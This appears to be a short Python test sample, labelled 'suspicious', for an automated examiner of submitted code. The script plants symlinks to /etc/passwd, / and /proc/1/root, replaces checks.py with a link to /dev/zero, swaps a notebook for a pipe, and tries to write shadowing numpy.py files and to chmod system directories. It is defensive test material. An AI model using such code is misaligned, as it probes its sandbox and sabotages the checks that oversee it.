"""Puts links, devices and pipes into its folder, which point out of it, for a careless examiner to follow."""

EXPECT = {"flags": "suspicious"}

# %%
import os

for number, target in enumerate(("/etc/passwd", "/", "/proc/1/root", "HOME_FOLDER", "../../..")):
    os.symlink(target, f"link{number}")
    print(target, os.path.exists(f"link{number}/etc/passwd"))
os.mkfifo("cross_correlation.ipynb")
os.mkdir("checks.py.d")
os.remove("checks.py")
os.symlink("/dev/zero", "checks.py")

# %%
for place in ("/", "/usr", "/usr/bin", "/packages", "/examiner", "/dev", "/proc", "/etc", "/root"):
    try:
        with open(os.path.join(place, "numpy.py"), "w") as file:
            file.write("raise SystemExit")
        print("FOUND a way into", place)
    except OSError as error:
        print(place, error.strerror)
    try:
        os.chmod(place, 0o777)
        print("FOUND a way into", place)
    except OSError:
        pass
